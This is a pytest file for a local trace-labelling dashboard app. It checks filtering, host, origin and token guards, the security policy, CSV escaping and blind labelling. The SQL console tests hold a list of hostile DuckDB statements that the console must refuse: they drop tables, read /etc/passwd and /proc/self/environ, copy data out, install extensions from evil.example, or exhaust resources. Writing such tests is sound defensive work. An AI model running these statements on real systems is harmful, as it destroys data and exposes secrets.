"""The live app: same numbers as the page, guarded, never down, labels kept and blind."""

from __future__ import annotations

import shutil
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest

pytest.importorskip("dash")

from tracelens.answers import Answer, Score
from tracelens.errors import InputError
from tracelens.figures import Filters
from tracelens.pages import app, dashboard, panels
from tracelens.pages.app import address, board, console, labelling, names, traces
from tracelens.pages.app.database import Database
from tracelens.store import Incoming, Store, open_readonly
from tracelens.types import Trace


@pytest.fixture
def source(small_path: Path, tmp_path: Path) -> Iterator[Database]:
    path = tmp_path / "lens.duckdb"
    shutil.copy(small_path, path)
    made = Database(path)
    yield made
    made._connection.close()


@pytest.fixture
def client(source: Database) -> Any:
    return app.create(source.path).server.test_client()


def test_every_panel_has_the_numbers_of_a_query_under_the_filter(source: Database, small: duckdb.DuckDBPyConnection) -> None:
    for name in dashboard.shipped():
        for panel in dashboard.load(name).panels:
            for filters in (Filters(), Filters(model="m1"), Filters(dataset="d", task="turn")):
                drawing, ignored = source.draw(panel, filters)
                kept = Filters(**{k: v for k, v in filters.fixed().items() if k not in ignored})
                assert drawing == panels.plot(panel, panels.read(small, panel, kept), filters)


def test_the_list_is_filtered_and_paged_by_the_server(source: Database) -> None:
    rows, total = traces.find(source, {"outcome": ("lost",)}, 0, 1)

    assert (total, [(r["task"], r["sample_id"]) for r in rows]) == (2, [("add", "3")])
    assert [r["task"] for r in traces.find(source, {"outcome": ("lost",)}, 1, 1)[0]] == ["turn"]
    assert traces.find(source, {"q": ("turn 4",)}, 0, 10)[1] == 1
    assert traces.find(source, {"category": ("num.arithmetic",), "model": ("m1",)}, 0, 10)[1] == 3
    assert traces.find(source, {"q": ("' OR 1=1 --",)}, 0, 10) == ([], 0)


def test_a_search_ignores_case_and_is_remembered_while_other_filters_change(source: Database) -> None:
    assert traces.find(source, {"q": ("WHAT IS TURN",)}, 0, 10)[1] == 4
    assert traces.find(source, {"q": ("2 + 2 = 5",), "model": ("m1",)}, 0, 10)[1] == 8
    assert traces.find(source, {"q": ("2 + 2 = 5",), "outcome": ("lost", "gained"), "task": ("add",)}, 0, 10)[1] == 4
    for n in range(12):
        assert traces.find(source, {"q": (f"turn {n}",)}, 0, 10)[1] == (n in (1, 2, 3, 4))
    assert traces.find(source, {"q": ("%",)}, 0, 10)[1] == 0


def test_the_list_counts_what_the_verdict_counts_where_each_run_holds_one_condition(tmp_path: Path) -> None:
    path = tmp_path / "runs.duckdb"
    right = {"direct": (True, True, False, False), "reasoning": (True, False, True, False)}
    with Store(path) as store:
        run = store.begin_run("ingest", {})
        made = [
            (Trace(sample_id=str(n), text="7", dataset="d", task="t", model="m", condition=condition, source_run=f"log of {condition}"), Answer("7", 0, 1, "whole"), Score(one, "given"))
            for condition, all_of in right.items() for n, one in enumerate(all_of)
        ]  # fmt: skip
        store.add_traces(run, Incoming(made))
    source = Database(path)
    drawing, _ = source.draw(next(p for p in dashboard.load("reasoning").panels if p.figure == "verdict"), Filters())

    listed = {outcome: traces.find(source, {"outcome": (outcome,)}, 0, 10)[1] for outcome in ("gained", "lost", "both_right", "both_wrong", "unmatched")}
    assert dict(drawing.table.rows) == {"gained": 1, "lost": 1, "both right": 1, "both wrong": 1}
    assert listed == {"gained": 1, "lost": 1, "both_right": 1, "both_wrong": 1, "unmatched": 0}
    opened = str(traces.reader(source, made[0][0].trace_id, {}))
    assert opened.count("trace with condition") == 2
    source._connection.close()


def test_marks_in_a_box_ask_for_any_of_their_values() -> None:
    points = [{"customdata": {"category": "num.unit", "condition": "direct"}}, {"customdata": {"category": "num.order", "condition": "direct"}}, {"x": 1}, {"customdata": {"page": "9"}}]

    assert board.asked({"points": points}) == {"category": ("num.unit", "num.order"), "condition": ("direct",)}
    assert board.asked({"points": []}) == board.asked(None) == {}


def test_an_address_keeps_known_filters_alone() -> None:
    assert address.read("?task=a%26b&evil=1&model=") == {"task": ("a&b",), "model": ("",)}
    assert address.read(address.write({"task": ("a&b",), "model": ("",)})) == {"task": ("a&b",), "model": ("",)}


@pytest.mark.parametrize("text", ["", "a", "__proto__", "x\u2060__PROTO__ constructor\u2060\u2060", "toString\u2060valueOf", "=1"])
def test_a_name_that_javascript_objects_share_is_no_key_of_a_drop_down_and_comes_back_whole(text: str) -> None:
    value = names.option_value(text)

    assert names.text_of(value) == text
    assert not any(shared in value.lower() + names.option_label(text).lower() for shared in ("__proto__", "constructor", "tostring", "valueof"))


def test_only_its_own_host_and_pages_may_ask(client: Any) -> None:
    assert client.get("/", headers={"Host": "127.0.0.1:8050"}).status_code == 200
    assert client.get("/", headers={"Host": "evil.example"}).status_code == 421
    assert client.get("/", headers={"Host": "127.0.0.1.evil.example"}).status_code == 421
    post = {"Host": "localhost:8050", "Content-Type": "application/json"}
    assert client.post("/_dash-update-component", headers=post | {"Origin": "https://evil.example"}, data="{}").status_code == 403
    assert client.post("/_dash-update-component", headers=post | {"Origin": "null"}, data="{}").status_code == 403
    assert client.post("/_dash-update-component", headers=post | {"Sec-Fetch-Site": "cross-site"}, data="{}").status_code == 403


def test_every_answer_carries_a_policy_without_unsafe_scripts(client: Any) -> None:
    policy = client.get("/", headers={"Host": "localhost"}).headers["Content-Security-Policy"]

    assert "default-src 'none'" in policy
    script = next(part for part in policy.split(";") if "script-src" in part)
    assert "unsafe" not in script


def test_a_token_is_asked_for_once(source: Database) -> None:
    client = app.create(source.path, token="secret").server.test_client()
    local = {"Host": "localhost"}

    assert client.get("/", headers=local).status_code == 401
    assert client.get("/?token=wrong", headers=local).status_code == 401
    assert client.get("/_dash-layout", headers=local).status_code == 401
    answer = client.get("/?token=secret", headers=local)
    assert (answer.status_code, answer.headers["Location"]) == (302, "/")
    assert "HttpOnly" in answer.headers["Set-Cookie"]
    assert "SameSite=Strict" in answer.headers["Set-Cookie"]
    assert client.get("/", headers=local).status_code == 200


def test_beyond_loopback_a_token_is_required(small_path: Path) -> None:
    with pytest.raises(InputError, match="--token"):
        app.serve(small_path, host="0.0.0.0")


ATTACKS = [
    "DELETE FROM runs", "INSERT INTO labels SELECT * FROM labels", "UPDATE trace_rows SET correct = true", "DROP TABLE trace_rows", "CREATE TABLE x AS SELECT 1",
    "CREATE OR REPLACE VIEW traces AS SELECT 1", "ALTER TABLE runs ADD COLUMN x INT", "TRUNCATE runs", "SELECT 1; DROP TABLE runs", "BEGIN; DELETE FROM runs; COMMIT",
    "WITH x AS (DELETE FROM runs RETURNING *) SELECT * FROM x", "MERGE INTO runs USING runs r ON true WHEN MATCHED THEN DELETE", "VACUUM", "CHECKPOINT", "ANALYZE",
    "ATTACH 'other.duckdb'", "ATTACH ':memory:' AS m", "DETACH lens", "USE memory", "COPY traces TO 'x.csv'", "COPY (SELECT 1) TO '/tmp/stolen.parquet'", "EXPORT DATABASE 'x'", "IMPORT DATABASE 'x'",
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM read_blob('/proc/self/environ')", "SELECT * FROM '/etc/passwd'", "SELECT * FROM glob('/*')",
    "SELECT * FROM read_json('http://127.0.0.1/x')", "SELECT * FROM read_parquet('s3://x/y')", "INSTALL httpfs", "LOAD httpfs", "FORCE INSTALL json FROM 'http://evil.example'",
    "SET enable_external_access = true", "SET lock_configuration = false", "SET memory_limit = '900GB'", "RESET ALL", "PRAGMA enable_profiling", "SELECT getenv('HOME')", "CALL force_checkpoint()", "EXECUTE p", "EXPLAIN ANALYZE DELETE FROM runs",
]  # fmt: skip
EXHAUSTING = ["SELECT repeat('x', 2000000000)", "SELECT count(*) FROM range(100000000000) a, range(1000) b", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r"]


def test_there_are_at_least_forty_attacks() -> None:
    assert len(set(ATTACKS)) + len(EXHAUSTING) >= 40


@pytest.mark.slow
def test_the_console_refuses_and_stops_and_the_app_stays_up(source: Database, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(console, "LIMITS", console.LIMITS._replace(seconds=3, megabytes=256))
    before = source.path.read_bytes()

    for attack in [*ATTACKS, *EXHAUSTING]:
        result, said = console.answer(source, attack)
        assert result is None, attack
        assert said, attack

    assert source.path.read_bytes() == before
    # A slow machine may keep its counts beside the database; nothing else may have come.
    assert {p.name for p in source.path.parent.iterdir()} - {"lens.duckdb.cells"} == {"lens.duckdb"}
    assert client.get("/", headers={"Host": "localhost"}).status_code == 200
    assert console.answer(source, "SELECT count(*) AS n FROM traces")[0] == {"columns": ["n"], "rows": [[21]]}


def test_a_result_as_csv_does_not_run_in_a_spreadsheet() -> None:
    assert console.as_csv({"columns": ["a"], "rows": [["=1+1"], [-1], [None]]}).splitlines() == ["a", "'=1+1", "-1", '""']


def test_the_form_shows_the_question_and_the_text_alone(source: Database) -> None:
    found = labelling.following(source, "num.arithmetic", "ann")
    assert found is not None

    shown = str(labelling._shown(*found[1:]))

    trace_id, prompt, text = found
    assert prompt in shown
    assert text.splitlines()[0] in shown
    assert not any(hidden in shown for hidden in (trace_id, "m1", "m2", "reasoning", "direct", "2 + 2 is 4", "decisive"))


def test_a_label_is_stored_and_the_trace_is_not_shown_again(source: Database) -> None:
    seen = []
    while (found := labelling.following(source, "num.arithmetic", "ann")) is not None:
        seen.append(found[0])
        assert labelling.keep(source, found[0], "num.arithmetic", "absent", "ann", None, "fine") == "Kept."

    assert len(seen) == len(set(seen)) == 21
    with source.reading() as connection:
        assert connection.execute("SELECT count(*), any_value(labeller), bool_and(blind) FROM labels").fetchone() == (21, "ann", True)
    assert not source.journal.exists()
    assert labelling.following(source, "num.arithmetic", "bob") is not None


def test_a_quote_must_stand_in_the_trace(source: Database) -> None:
    found = labelling.following(source, "num.arithmetic", "ann")
    assert found is not None

    assert "character by character" in labelling.keep(source, found[0], "num.arithmetic", "present", "ann", "not there", None)
    assert labelling.keep(source, found[0], "num.arithmetic", "present", "ann", found[2][:1], None) == "Kept."


def test_a_label_waits_in_the_journal_while_another_process_holds_the_database(source: Database) -> None:
    import subprocess
    import sys

    holder = subprocess.Popen(
        [sys.executable, "-c", f"import duckdb, sys; c = duckdb.connect({str(source.path)!r}, read_only=True); print('held', flush=True); sys.stdin.read()"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert holder.stdout is not None
    assert holder.stdout.readline() == "held\n"
    found = labelling.following(source, "num.arithmetic", "ann")
    assert found is not None

    said = labelling.keep(source, found[0], "num.arithmetic", "present", "ann", None, None)
    following = labelling.following(source, "num.arithmetic", "ann")
    holder.communicate("")

    assert "lens.duckdb.labels.jsonl" in said
    assert following is not None
    assert following[0] != found[0]
    assert labelling.keep(source, following[0], "num.arithmetic", "absent", "ann", None, None) == "Kept."
    with source.reading() as connection:
        assert connection.execute("SELECT count(*) FROM labels").fetchone() == (2,)


def test_many_read_while_one_labels(source: Database) -> None:
    faults: list[BaseException] = []

    def read() -> None:
        try:
            for _ in range(20):
                assert traces.find(source, {}, 0, 5)[1] == 11
        except BaseException as error:  # noqa: BLE001 -- a thread's failure must reach the test
            faults.append(error)

    threads = [threading.Thread(target=read) for _ in range(4)]
    for thread in threads:
        thread.start()
    for _ in range(3):
        found = labelling.following(source, "num.arithmetic", "ann")
        assert found is not None
        labelling.keep(source, found[0], "num.arithmetic", "absent", "ann", None, None)
    for thread in threads:
        thread.join()

    assert faults == []


def test_the_store_can_be_read_by_others_while_the_app_runs(source: Database) -> None:
    other = open_readonly(source.path)

    assert other.execute("SELECT count(*) FROM traces").fetchone() == (21,)
    other.close()


def test_without_the_extra_it_is_named_and_nothing_is_served(small_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for missing in ("dash", "werkzeug", "werkzeug.serving"):
        monkeypatch.setitem(sys.modules, missing, None)

    with pytest.raises(InputError, match=r"tracelens\[app\]"):
        app.serve(small_path)
